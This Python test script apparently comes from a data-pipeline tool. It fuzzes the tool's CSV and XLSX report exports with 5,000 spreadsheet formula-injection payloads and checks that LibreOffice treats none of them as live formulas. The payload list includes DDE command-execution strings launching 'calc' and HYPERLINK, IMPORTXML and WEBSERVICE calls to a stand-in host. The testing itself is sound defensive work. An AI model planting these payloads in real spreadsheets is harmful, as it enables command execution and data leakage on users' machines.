"""Formulas planted in an export, looked for in everything that comes out: python3 tests/faults/payloads.py [PAYLOADS]

Needs nothing but Python, and LibreOffice for its last part. 5,000 texts that spreadsheets evaluate stand as product, category, unit, enterprise, analyte,
date and so on of one export, written as CSV and as a workbook (whose dates are real formulas with links to elsewhere);
file, sheet, a header and indicators are named so too. Every file of the report and of the report to share, what
`assay rejections`, `query` and `trace` write, and the workbooks of `assay rejections --xlsx` are then opened.
- CSV: every record has as many fields as the header, and none begins with = + - @, a full-width twin, tab, CR or LF,
  unless it is one character or a plain number; an apostrophe in front is the guard (src/report/csv.rs).
- XLSX: no cell has a formula, every text is a shared or inline string, no part or relationship is of a kind that
  reaches outside or runs, and no name is defined but those of printing.
Fields that hide a mark behind a quote or a character of no width are counted and allowed: spreadsheets take them for
texts.
Where LibreOffice is installed, it opens every file, told to evaluate formulas, saves it in the form it had and opens it
again: neither time may a cell be a formula. The same payloads unguarded are opened as well, and must be formulas there.
"""

import collections
import csv
import io
import os
import random
import re
import subprocess
import sys
import tempfile
import zipfile
from itertools import product
from pathlib import Path
from xml.etree import ElementTree
from xml.sax.saxutils import escape

import office

ROOT = Path(__file__).resolve().parents[2]
MARKS = [*"=+-@＝＋－＠", "\t=", "\r=", "\n=", " =", "\u3000@", "\u200b=", "\ufeff＝", '"=', '""+', "'=", "=\u200b"]
BODIES = r"""1+1¦2¦A1¦SUM(A1:A9)¦cmd|' /C calc'!A0¦cmd\|' /C calc'!A0¦HYPERLINK("http://x.example/?"&A1,"看")
¦HYPERLINK(""""http://x.example"""",""""y"""")¦IMPORTXML("http://x.example","//a")¦WEBSERVICE("http://x.example")¦+1¦-1
¦"",=1¦DDE("cmd";"/C calc";"x")¦'[http://x.example/a.xlsx]甲'!A1¦"1"¦1e9¦0x1f¦_x003D_1¦SUM(1,2)
¦甲醛""".replace("\n", "").split("¦")
TAILS = ["", " ", '"', '""', "'", ",", ";=1", "\r\n=1", "\n+1", "\t@1", "\u200b", "|", "%", "&x", ',"=1']
FORMULA = re.compile(r"[-=+@＝＋－＠\t\r\n].", re.DOTALL)
NUMBER = re.compile(r"[-+]?(\d+\.?\d*|\.\d+)")
HIDING = " \u00a0\u3000\u200b\u200c\u200d\u2060\ufeff"
HEADER = (
    "抽样单编号 样品名称 食品大类 抽样环节 抽样地点 乡镇 任务来源 检验目的 抽样日期 =报告日期 被抽样单位名称 标称生产企业名称 "
    "检验机构名称 检验项目 检验结果 结果单位 最大允许限 结果判定 检验结论"
).split()
SOUND = (
    "XC 糕 糕点 流通 超市 权寨镇 西平县市场监督管理局 监督抽检 2020-02-03 2020-02-09 甲店 乙厂 "
    "丙所 铅 0.9 mg/kg 0.5 合格 纯抽检合格样品"
).split()
DATE = HEADER.index("抽样日期")
ANY = "样品名称 食品大类 抽样地点 被抽样单位名称 标称生产企业名称 检验机构名称 检验项目 结果单位"
FREE = [HEADER.index(name) for name in ANY.split()]
STRICT = [place for place in range(len(HEADER)) if place not in FREE and place != DATE]
KINDS = "officeDocument core-properties extended-properties worksheet theme styles sharedStrings comments vmlDrawing"
LIVE = "f formula formula1 formula2 hyperlink oleObject control ddeLink externalReference dataValidation"
PARTS = re.compile(
    r"\[Content_Types\]\.xml|(xl/|xl/worksheets/)?_rels/[\w.]*\.rels|docProps/(app|core)\.xml"
    r"|xl/(workbook|styles|sharedStrings|theme/theme\d+|comments\d+|worksheets/sheet\d+)\.xml"
    r"|xl/drawings/vmlDrawing\d+\.vml"
)
SHEETS = "application/vnd.openxmlformats-officedocument.spreadsheetml"
CONTENT = f"""<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="{SHEETS}.worksheet+xml"/>
<Override PartName="/xl/workbook.xml" ContentType="{SHEETS}.sheet.main+xml"/></Types>"""
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = f'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{OFFICE}"'
REGISTER = """
[source.register]
files = "register.csv"
into = "establishments"
columns = { name = "企业名称" }
"""
LINKS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'


def export(payloads):
    """Every payload where any text will do, as a date, and in one of the columns that are checked."""
    rows = [HEADER]
    for place, payload in enumerate(payloads):
        for line, columns in enumerate((FREE, [DATE], [STRICT[place % len(STRICT)]])):
            row = SOUND.copy()
            row[0] += f"{place:06}{line}"
            for column in columns:
                row[column] = payload
            rows.append(row)
    return rows


def write_csv(path, rows):
    with open(path, "w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)


def write_workbook(path, rows):
    """Texts as inline strings; dates are formulas that reach outside."""

    def cell(column, text):
        text = escape(text, {"\r": "&#13;", "\t": "&#9;", "\n": "&#10;"})
        if column == DATE:
            return f'<c t="str"><f>HYPERLINK("http://x.example",1)</f><v xml:space="preserve">{text}</v></c>'
        return f'<c t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'

    lines = "".join("<row>" + "".join(cell(*pair) for pair in enumerate(row)) + "</row>" for row in rows)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml", CONTENT)
        target = f'<Relationship Id="rId1" Type="{OFFICE}/{{}}" Target="{{}}"/>'
        book.writestr("_rels/.rels", LINKS.format(target.format("officeDocument", "xl/workbook.xml")))
        book.writestr("xl/_rels/workbook.xml.rels", LINKS.format(target.format("worksheet", "worksheets/sheet1.xml")))
        sheet = '<sheets><sheet name="=1+1" sheetId="1" r:id="rId1"/></sheets>'
        book.writestr("xl/workbook.xml", f"<workbook {MAIN}>{sheet}</workbook>")
        book.writestr("xl/worksheets/sheet1.xml", f"<worksheet {MAIN}><sheetData>{lines}</sheetData></worksheet>")


def look_at_csv(name, text, counts, bad):
    records = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))
    for number, record in enumerate(records, 1):
        if len(record) != len(records[0]):
            bad.append(f"{name}, record {number}: {len(record)} fields for {len(records[0])}")
        for field in record:
            is_formula = FORMULA.match(field) and not NUMBER.fullmatch(field)
            counts[name, "fields"] += 1
            counts[name, "guarded"] += field[:1] == "'" and bool(FORMULA.match(field[1:]))
            counts[name, "hidden"] += field[:1] in [*HIDING, '"'] and bool(FORMULA.match(field.lstrip(HIDING + "\"'")))
            if is_formula:
                bad.append(f"{name}, record {number}: {field!r}")


def look_at_workbook(name, path, counts, bad):
    with zipfile.ZipFile(path) as book:
        for part in book.namelist():
            if not PARTS.fullmatch(part):
                bad.append(f"{name}: part {part}")
        trees = {part: ElementTree.fromstring(book.read(part)) for part in book.namelist() if not part.endswith(".vml")}
    shared = ["".join(own.itertext()) for own in trees["xl/sharedStrings.xml"]]
    if "拒收" in name and not any("[抽样日期]" in text for text in shared):
        bad.append(f"{name}: no row is marked")
    for part, tree in trees.items():
        for own in tree.iter():
            tag = own.tag.rpartition("}")[2]
            is_link = tag == "Relationship"
            if is_link and (own.get("TargetMode") or own.get("Type").rpartition("/")[2] not in KINDS.split()):
                bad.append(f"{name}, {part}: relationship {own.attrib}")
            if tag in LIVE.split():
                bad.append(f"{name}, {part}: {tag} {own.text!r}")
            if tag == "definedName" and not own.get("name").startswith("_xlnm.Print_"):
                bad.append(f"{name}: name {own.get('name')}")
            if tag == "c":
                value = own.findtext("{*}v")
                counts[name, "cells"] += 1
                if own.get("t", "n") == "n":
                    is_fine = value is None or NUMBER.fullmatch(value)
                else:
                    is_fine = own.get("t") in ("s", "inlineStr")
                    text = shared[int(value)] if own.get("t") == "s" else "".join(own.itertext())
                    counts[name, "texts like formulas"] += bool(FORMULA.match(text))
                if not is_fine:
                    bad.append(f"{name}, {part}: cell {own.attrib} {value!r}")


def look_through_office(work, counts, bad):
    """Both reports and the workbooks for the submitter; as a control the export itself, where it is a text."""
    paths = [path for path in work.glob("*/*") if path.suffix in (".csv", ".xlsx") and path.parent.name != "lake"]
    control = work / "control" / "export.csv"
    control.parent.mkdir()
    with open(control, "w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([payload] for payload in ("=1+1", '=SUM(A1;"x")', "=A9&A8", "safe"))
    for path, (opened, again) in office.formulas([*paths, control]).items():
        name = f"LibreOffice: {path.parent.name}/{path.name}"
        counts[name, "files opened, saved and opened"] += 1
        counts[name, "formulas"] += len(opened) + len(again)
        if path == control:
            if not opened:
                bad.append(f"{name}: formulas are not evaluated, so nothing was tried")
        elif opened or again:
            bad.append(f"{name}: {(opened + again)[:3]}")


def main():
    wanted = int(sys.argv[1]) if len(sys.argv) > 1 else 5000
    target = Path(os.environ.get("CARGO_TARGET_DIR", ROOT / "target"))
    program = str((ROOT / target / "release" / "assay").resolve())
    every = list(dict.fromkeys("".join(parts) for parts in product(MARKS, BODIES, TAILS)))
    payloads = random.Random(1).sample(every, wanted)
    rows = export(payloads)
    pipeline = (ROOT / "pipelines" / "flat.toml").read_text(encoding="utf-8").replace('"报告日期"', '"=报告日期"')
    pipeline = pipeline.replace('_zh = "', '_zh = "=')
    counts, bad = collections.Counter(), []
    for stem, form in (("flat", "csv"), ("flat", "xlsx"), ("=1+1", "csv")):
        with tempfile.TemporaryDirectory(prefix="assay-faults-") as folder:
            work = Path(folder)
            file = work / f"{stem}.{form}"
            (work / "flat.toml").write_text(pipeline + REGISTER, encoding="utf-8")
            (write_csv if form == "csv" else write_workbook)(file, rows)
            write_csv(work / "register.csv", [["企业名称"], *([f"{payload}公司"] for payload in payloads)])

            def assay(*command):
                done = subprocess.run([program, *command, "--quiet"], cwd=work, capture_output=True)
                if done.returncode != 0:
                    bad.append(f"{file.name}: {command}: {done.stderr.decode()[-300:]}")
                return done.stdout.decode()

            assay("run", "flat.toml", "--param", f"file={file}", "--share", "share")
            assay("rejections", "--xlsx", "back")
            printed = {"rejections": assay("rejections"), "trace": assay("trace", f"{SOUND[0]}0000000")}
            printed |= {name: assay("query", f"select * from {name}") for name in ("samples", "determinations")}
            for name, text in printed.items():
                look_at_csv(f"{file.name}: {name}", text, counts, bad)
            if not list((work / "back").iterdir()):
                bad.append(f"{file.name}: no workbook for the submitter")
            for path in sorted(path for path in work.glob("*/*") if path.parent.name != "lake"):
                name = f"{file.name}: {path.parent.name}/{path.name}"
                if path.suffix == ".csv":
                    look_at_csv(name, path.read_bytes().decode(), counts, bad)
                if path.suffix == ".xlsx":
                    look_at_workbook(name, path, counts, bad)
            if office.SOFFICE:
                look_through_office(work, counts, bad)
    for name in dict.fromkeys(name for name, _ in counts):
        own = [f"{count} {kind}" for (other, kind), count in counts.items() if other == name]
        print(f"{name:32} {', '.join(own)}")
    print(f"{wanted} payloads, {len(bad)} bad")
    print("\n".join(bad[:30]))
    sys.exit(bool(bad))


if __name__ == "__main__":
    main()
